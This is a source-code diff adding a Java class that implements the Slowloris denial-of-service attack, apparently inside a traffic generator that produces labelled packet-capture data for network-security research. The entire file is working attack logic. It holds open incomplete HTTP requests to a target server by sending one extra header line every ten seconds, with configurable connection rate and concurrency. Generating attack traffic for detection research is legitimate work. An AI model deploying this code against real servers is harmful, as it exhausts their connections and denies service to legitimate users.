@@ -0,0 +1,67 @@
+package weka.datagenerators.classifiers.classification.pcap.attack;
+
+import java.io.IOException;
+import java.nio.ByteBuffer;
+import java.nio.charset.StandardCharsets;
+import java.util.concurrent.atomic.AtomicLong;
+
+/**
+ * Slowloris: the connections send an incomplete HTTP request and keep it
+ * incomplete by sending one more header line at a slow pace, so the server
+ * keeps all of them open. The connections closed by the server are replaced.
+ * The attack rate is the number of new connections per second.
+ */
+public class Slowloris extends ConnectionAttack {
+
+    // Interval between two header lines of a connection (nanoseconds)
+    private static final long KEEP_ALIVE_INTERVAL = 10000000000L;
+
+    private final int port;
+    private final AtomicLong headers = new AtomicLong();
+
+    /**
+     * Creates a Slowloris attack.
+     *
+     * @param port           the port of the HTTP server.
+     * @param rate           the rate of new connections per second, 0 for no
+     *                       limit.
+     * @param maxConnections the max number of concurrent connections.
+     * @param threads        the number of selector threads.
+     */
+    public Slowloris(int port, int rate, int maxConnections, int threads) {
+        super(rate, maxConnections, threads);
+        this.port = port;
+    }
+
+    @Override
+    public String getName() {
+        return "slowloris";
+    }
+
+    @Override
+    protected int nextPort() {
+        return port;
+    }
+
+    @Override
+    protected void onConnected(Connection connection) throws IOException {
+        // The request line is counted with the connection attempt
+        write(connection, ascii("GET /?" + headers.getAndIncrement() + " HTTP/1.1\r\n"
+                + "Host: " + getTarget().getHostAddress() + "\r\n"
+                + "User-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n"));
+    }
+
+    @Override
+    protected void onTick(Connection connection, long now) throws IOException {
+        // The next header waits for the previous one to be sent
+        if (now - connection.getLastWrite() >= KEEP_ALIVE_INTERVAL && !connection.isPending()) {
+            if (write(connection, ascii("X-a: " + headers.getAndIncrement() + "\r\n"))) {
+                countPacket();
+            }
+        }
+    }
+
+    private static ByteBuffer ascii(String value) {
+        return ByteBuffer.wrap(value.getBytes(StandardCharsets.US_ASCII));
+    }
+}